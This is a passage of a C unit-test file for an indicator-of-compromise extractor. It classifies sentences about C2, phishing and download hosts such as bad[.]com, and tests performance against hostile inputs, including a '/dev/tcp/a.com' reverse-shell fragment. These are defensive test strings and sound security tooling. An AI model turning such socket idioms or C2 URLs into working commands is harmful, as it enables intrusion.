		"http://bad.com/download/c2/phish prose - -"},
	    {"the C2 sample 5d41402abc4b2a76b9719d911017c592",
		"5d41402abc4b2a76b9719d911017c592 prose - -"},
	    /* what is denied beside it is no role; what is denied elsewhere is */
	    {"The host bad[.]com is not a C2 server.", "bad.com prose - -"},
	    {"There is no C2 at bad[.]com, it is a phishing page.",
		"bad.com prose phishing -"},
	    {"Not a phishing page but the C2 server: bad[.]com",
		"bad.com prose c2 -"},
	    {"It was not blocked and the C2 server bad[.]com answers.",
		"bad.com prose c2 -"},
	    {"bad[.]com is not only a C2 server.", "bad.com prose c2 -"},
	    {"bad[.]com is no longer a C2 server.", "bad.com prose c2 -"},
	    {"bad[.]com はC2サーバではない。", "bad.com prose - -"},
	    {"bad[.]com はC2サーバではなくフィッシングサイトだ。",
		"bad.com prose phishing -"},
	    {"bad[.]com でC2サーバは確認されていない。", "bad.com prose - -"},
	    {"bad[.]com でC2サーバは確認されている。", "bad.com prose c2 -"},
	    {"C2サーバ以外の配布元は bad[.]com だ。",
		"bad.com prose download -"},
	    /* a page that is cited has that role, whatever stands beside it */
	    {"References:\n\nhttps://x.com/a/1 on its C2 server\n",
		"https://x.com/a/1 prose reference -"},
	    {"A talk of C2.\n\nThe host bad[.]com is down.",
		"bad.com prose - -"},
	};
	struct arena *a = arena_new();
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		assert_string_equal(settings(a, cases[i].in), cases[i].want);
	arena_free(a);
}

/* Milliseconds of CPU for so many bytes of the unit, again and again. */
static double time_of(const char *unit, size_t bytes)
{
	struct arena *a = arena_new();
	struct buf b = {0};
	struct indicators out;
	struct timespec from, to;

	while (b.n < bytes)
		buf_puts(&b, unit);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
	ioc_extract(a, buf_str(&b), b.n, known, NULL, &out);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
	assert_true(out.n < 1000);
	buf_free(&b);
	arena_free(a);
	return (double)(to.tv_sec - from.tv_sec) * 1e3 +
	       (double)(to.tv_nsec - from.tv_nsec) / 1e6;
}

/* Four times the input may take about four times as long: a quadratic walk
 * takes sixteen. The margins are for other work of the machine. */
static void test_hostile(void **state)
{
	static const char *const units[] = {"a.", "@", "[.", "A", "a1", ":",
	    "1.2.3.4.", "::a", "http://", "\\", "%3A%2F%2F", " dot ",
	    "HKLM\\a ", "http://a.com/,a", "http://a.com/(", "a[.]", "a@b.com",
	    "/tmp/", "\xc3\xa9.", "\u3002a", "rule a ", "C:\\a b ",
	    "3:aaaaaaa:", "# ioc\n", "a1b2c3\n", "\xff", "npm package a-b, ",
	    "npm packages: a, a, ", "パッケージ「a」", "［.］a", "a.]", "((.))",
	    "<wbr>", "malicious packages:\n- aa\n", "popular npm package ",
	    "C2:\n- a[.]com\n", "a,", "|", "0", "a at ", "a.com。co", "1.2。3",
	    "a[.]com/", "1[.]2[.]3[.]4.", ",a[.]com", "http://a.com/a,b[.]c",
	    "a[.]com.A ", "1.2.3.4=", "1.2.3.4-", "1.2.3.4_", "1.2.3.4-5",
	    "CVE-2026-1234-", "T1059.", "AS64500-", "-_", "a-.", "45[.]33.1.2-",
	    "=1.2.3.4/a", "=1.2.3.4:1/tcp", "資", "http://a.com/資_", "資/",
	    "C:\\資", "&#46;", "a&#46;", "a:", "：", "/dev/tcp/a.com",
	    "/tmp/資", "http://a.com/資(1)"};
	enum { LITTLE = 1000000, MUCH = 4 * LITTLE };
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(units) / sizeof(units[0]); i++) {
		double little = time_of(units[i], LITTLE);
		double much = time_of(units[i], MUCH);

		print_message("%6.1f ms, 4 times as much %6.1f ms: %.20s\n",
		    little, much, units[i][0] == '\xff' ? "ff" : units[i]);
		assert_true(much < little * 9 + 40);
	}
}

/* As many different values on one line as a document may have. */
static void test_many(void **state)
{
	static const struct {
		const char *before, *behind;
	} cases[] = {{"bad", "[.]com "}, {"bad", ".com,"}, {"45.33.", ".9 "},
	    {"\n- bad", "[.]com"}, {"| bad", ".com"}, {"npm package a-", ". "}};
	enum { FEW = 10000 };
	double ms[2];
	size_t i, k, n;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (k = 0; k < 2; k++) {
			struct arena *a = arena_new();
			struct buf b = {0};
			struct indicators out;
			clock_t from;

			for (n = 0; n < FEW * (k == 0 ? 1 : 4); n++)
				buf_printf(&b, "%s%zu.%zu%s", cases[i].before,
				    n / 200, n % 200, cases[i].behind);
			from = clock();
			ioc_extract(a, buf_str(&b), b.n, known, NULL, &out);
			ms[k] = (double)(clock() - from) * 1e3 / CLOCKS_PER_SEC;
			buf_free(&b);
			arena_free(a);
		}
		print_message("%6.1f ms, 4 times as many %6.1f ms: %s\n", ms[0],
		    ms[1], cases[i].before);
		assert_true(ms[1] < ms[0] * 9 + 40);
	}
}

static void test_registrable(void **state)
{
	static const struct text_case cases[] = {
	    {"news.bbc.co.uk", "bbc.co.uk"},
	    {"bad.github.io", "bad.github.io"},
	    {"github.io", "github.io"},
	    {"45.33.1.2", "45.33.1.2"},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		assert_string_equal(
		    ioc_registrable(known, cases[i].in), cases[i].want);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_urls),
	    cmocka_unit_test(test_odd_ends),
	    cmocka_unit_test(test_neighbours),
	    cmocka_unit_test(test_hosts),
	    cmocka_unit_test(test_no_hosts),
	    cmocka_unit_test(test_addresses),
	    cmocka_unit_test(test_hashes),
	    cmocka_unit_test(test_identifiers),
	    cmocka_unit_test(test_packages),
	    cmocka_unit_test(test_no_packages),
	    cmocka_unit_test(test_judgement),
	    cmocka_unit_test(test_source),
	    cmocka_unit_test(test_platform),
	    cmocka_unit_test(test_members),
	    cmocka_unit_test(prose_lists_nothing),
	    cmocka_unit_test(test_setting),
	    cmocka_unit_test(test_hostile),
	    cmocka_unit_test(test_many),
	    cmocka_unit_test(test_registrable),
	};

	return cmocka_run_group_tests(
	    tests, ioc_fixture_load, ioc_fixture_unload);
}
